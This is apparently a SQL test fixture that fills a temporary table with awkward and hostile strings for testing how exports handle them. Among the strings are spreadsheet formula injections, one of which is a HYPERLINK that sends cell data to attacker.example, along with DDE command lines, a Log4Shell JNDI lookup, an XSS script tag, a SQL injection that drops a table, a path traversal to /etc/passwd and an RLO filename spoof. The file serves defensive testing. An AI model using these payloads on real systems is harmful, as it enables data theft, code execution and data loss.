-- Texts that break careless exports. Row n of most tables bears text n somewhere, in every tenant.
-- Written with escapes, so that this file itself is harmless to open.

create temporary table fill_hostile (number integer generated always as identity, kind text not null, value text not null)
    on commit drop;

insert into fill_hostile (kind, value) values
    -- read as formulas by spreadsheets
    ('formula-link',            '=HYPERLINK("http://attacker.example/?x="&A1,"Overdue")'),
    ('formula-command',         '=cmd|'' /C calc''!A0'),
    ('formula-plus',            '+1+1|cmd'),
    ('formula-minus',           '-2+3+cmd|'' /C calc''!A0'),
    ('formula-at',              '@SUM(1+1)*cmd'),
    ('formula-tab',             E'\t=1+1'),
    ('formula-return',          E'\r=1+1'),
    ('formula-line-feed',       E'\n=1+1'),
    ('formula-blank',           '  =1+1'),
    ('formula-no-break-space',  U&'\00A0=1+1'),
    ('formula-control',         E'\x01=1+1'),
    ('formula-full-width',      U&'\FF1D1+1'),
    ('formula-full-width-plus', U&'\FF0B1+1'),
    ('formula-full-width-minus', U&'\FF0D1+1'),
    ('formula-full-width-at',   U&'\FF20SUM(1)'),
    ('formula-semicolon',       '1;=1+1'),
    ('formula-breaks-quotes',   '";=1+1;"'),
    ('separator-line',          'sep=;'),
    -- read as something else
    ('phone',                   '+49 30 1234567'),
    ('leading-dash',            '- Strich & Söhne -'),
    ('leading-zeros',           '00123'),
    ('exponent',                '1E5'),
    ('date-like',               '2024-01-02'),
    ('word-null',               'NULL'),
    ('empty',                   ''),
    ('blank-at-the-end',        'Blank am Ende '),
    -- separators and quotes
    ('comma',                   'Müller, Meier, Schulze'),
    ('semicolon',               'Nord; Süd; Ost'),
    ('quotes',                  'The "Quoted" Company "'),
    ('apostrophe',              '''s Gravenhage'),
    ('apostrophe-inside',       'O''Brien & D''Arcy'),
    ('backslash',               E'C:\\new\\table\\'),
    ('copy-null',               E'\\N'),
    ('copy-end',                E'\\.'),
    -- line ends and what is taken for them
    ('new-line',                E'Line one\nLine two'),
    ('return-and-new-line',     E'Line one\r\nLine two'),
    ('next-line',               U&'Line one\0085Line two'),
    ('line-separator',          U&'Line one\2028Line two'),
    ('paragraph-separator',     U&'Line one\2029Line two'),
    -- characters that are not what they seem
    ('right-to-left-mark',      U&'\200F\05E9\05DC\05D5\05DD Ltd.'),
    ('right-to-left-override',  U&'invoice\202Efdp.exe'),
    ('emoji',                   U&'\+01F469\200D\+01F680 Rocket \+01F1E9\+01F1EA \+01F44D\+01F3FD'),
    ('astral',                  U&'\+01D54A\+01D552\+01D55D\+01D55D\+01D56A'),
    ('decomposed',              U&'Cafe\0301 Bru\0308cke'),
    ('zero-width',              U&'Ze\200Bro\FEFF'),
    ('control',                 E'Bell\x07 escape\x1b[31m delete\x7f'),
    -- meant for other readers of the file
    ('markup',                  '<script>alert(1)</script><!--'),
    ('template',                '${jndi:ldap://attacker.example/a}{{7*7}}'),
    ('statement',               'Robert''); drop table agency.invoices; --'),
    ('path',                    '../../../etc/passwd'),
    ('long',                    repeat('Donaudampfschifffahrt ', 150));
